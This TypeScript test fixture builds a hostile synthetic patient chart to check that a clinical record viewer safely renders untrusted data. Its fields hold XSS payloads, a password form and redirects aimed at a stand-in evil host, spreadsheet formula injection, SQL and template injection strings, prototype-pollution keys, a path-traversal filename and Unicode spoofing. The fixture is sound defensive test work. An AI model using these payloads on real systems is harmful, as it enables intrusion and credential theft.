import { annotation, coding, concept, loinc, narrative, quantity, refer } from './build.ts';
import { visit } from './chart.ts';
import { htmlFile, textFile } from './documents.ts';
import { allergy, assessAndPlan, careTeam, condition } from './history.ts';
import { medication } from './medications.ts';
import { note, noteTypes, report } from './notes.ts';
import { observation } from './observations.ts';
import { email, person, phone } from './person.ts';
import type { Resource } from './resource.ts';

const script = '<script>globalThis.chartsideOwned = true</script>';
const image = '<img src="http://evil.example.invalid/x.png" onerror="globalThis.chartsideOwned = true">';
const endless = 'Pneumonoultramicroscopicsilicovolcanoconiosis'.repeat(12);

/** A test patient through and through: text that tries to be markup, to turn the line round, to run, to overflow. */
export function hostile(): readonly Resource[] {
  const chart = person({
    id: '429200358',
    names: [
      { use: 'official', family: `TESTPATIENT ${script}`, given: ['HOSTILE', '"><b>BOLD</b>'] },
      { use: 'usual', text: 'TEST\u202EGNISREVER\u202C PATIENT' },
      { use: 'old', text: `${'Z\u0351\u036B\u0343\u036A\u0302'.repeat(8)}ALGO` },
    ],
    gender: 'other',
    birthDate: '2000-01-01',
    telecom: [
      phone('javascript:alert(1)'),
      email('"><svg onload=alert(1)>@example.invalid'),
      { system: 'url', value: 'javascript:alert(document.domain)' },
    ],
    address: [
      {
        use: 'home',
        line: [endless, '=cmd|calc'],
        city: '${7*7}',
        state: '{{constructor}}',
        postalCode: "'; DROP TABLE",
      },
    ],
    languages: [['x-hostile', `Markup ${image}`]],
  });
  const seen = visit(chart, '2026-11-20T10:00', concept(`Visit ${script}`), {
    id: '90412758',
    reason: `${image} \u202Etxet desrever\u202C`,
  });
  allergy(chart, concept(`Peanut ${script}`), {
    criticality: 'high',
    recorded: '2026-11-20T10:01',
    reactions: [[concept('a\u200Bb\u2060c hidden characters'), 'severe']],
    note: image,
  });
  condition(chart, 'PL', concept(endless), {
    recorded: '2026-11-20T10:02',
    encounter: seen,
    more: {
      text: narrative(
        'additional',
        `<p onclick="alert(1)">Click <a href="javascript:alert(1)">here</a></p>${script}${image}<style>body{display:none}</style><form action="http://evil.example.invalid/"><input name="password"></form><iframe src="http://evil.example.invalid/"></iframe>`,
      ),
    },
  });
  condition(chart, 'PL', concept('constructor', coding('__proto__', '__proto__', 'toString')), {
    recorded: '2026-11-20T10:03',
  });
  medication(
    chart,
    concept(`\u202EnillicineP\u202C 500 mg ${'\u00A0'.repeat(80)}END`),
    `Take <b>one</b>\n\n\n\ttablet &amp; &lt;rest&gt;`,
    { authored: '2026-11-20T10:04' },
  );
  observation(
    chart,
    'laboratory',
    loinc('2823-3', 'Potassium', `Potassium ${image}`),
    '2026-11-20T10:05',
    { valueString: `${script}${'9'.repeat(400)}` },
    { note: [annotation('=HYPERLINK("http://evil.example.invalid","free")')] },
  );
  observation(chart, 'laboratory', concept('Huge number'), '2026-11-20T10:06', {
    valueQuantity: { ...quantity('123456789012345678901234567890.123456789', 'mg/dL'), unit: '<i>mg</i>/dL' },
  });
  observation(
    chart,
    'laboratory',
    concept('Year beyond years'),
    { effectiveDateTime: '9999-12-31T23:59:59Z' },
    { valueString: 'from the future' },
  );
  report(chart, 'radiology', concept(`Scan ${script}`), '2026-11-20T11:00', {
    conclusion: `${endless} ${image}`,
    attachments: [
      htmlFile(
        `${script}${image}<base href="http://evil.example.invalid/"><meta http-equiv="refresh" content="0;url=http://evil.example.invalid/"><link rel="stylesheet" href="http://evil.example.invalid/x.css"><p>Text that should be read.</p>`,
        'Hostile HTML',
      ),
    ],
  });
  note(
    chart,
    noteTypes.progress,
    '2026-11-20T11:10',
    [
      htmlFile(
        `<h1 onmouseover="alert(1)">Hostile note</h1>${script}<a href="http://evil.example.invalid/" target="_top">leave</a><p>Words to be read.</p>`,
        '../../etc/passwd',
      ),
      textFile(`${script}\n\u202Eesrever\u202C\n${endless}`, 'Text'),
      {
        contentType: 'image/svg+xml',
        data: Buffer.from(
          `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><text y="20">SVG</text></svg>`,
        ).toString('base64'),
        title: 'drawing.svg',
      },
      { contentType: 'text/html; charset=utf-8"><script>', data: 'bm90IGJhc2U2NCE', title: 'bad type' },
      { contentType: 'application/pdf', data: 'bm90IGEgcGRm', title: 'Not a PDF.pdf.exe' },
    ],
    { encounter: seen },
  );
  assessAndPlan(
    chart,
    `<table><tr><td colspan="1000">${endless}</td></tr></table>${script}<object data="http://evil.example.invalid/"></object><math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
    '2026-11-20T11:20',
  );
  careTeam(chart, image, [[concept(script), refer('Practitioner/1000851', `Dr ${script}`)]]);
  return chart.all();
}
